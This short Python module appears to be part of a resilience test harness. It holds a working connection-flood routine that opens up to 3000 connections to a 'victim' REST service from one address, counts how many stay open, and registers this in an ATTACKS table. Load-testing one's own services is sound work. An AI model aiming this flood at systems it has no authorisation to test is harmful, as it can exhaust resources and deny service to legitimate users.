"""Connections from one address, as many as it gets."""

import resource
import time

_N_TRIED = 3000


def flood(victim):
    """Open connections to REST, and count those that are left open."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, _N_TRIED + 500), hard))
    connections = []
    for _ in range(_N_TRIED):
        try:
            connections.append(victim.connect())
        except OSError:
            break
    n_before, n_open = -1, _N_TRIED
    while n_open != n_before:  # the service accepts them one after another
        time.sleep(1.0)
        n_before, n_open = n_open, sum(_is_open(each) for each in connections)
    for each in connections:
        each.close()
    return f"{n_open} of {_N_TRIED} open"


def _is_open(connection):
    connection.setblocking(False)
    try:
        while connection.recv(4096):  # a refusal
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


ATTACKS = {"3000 connections from one address": flood}
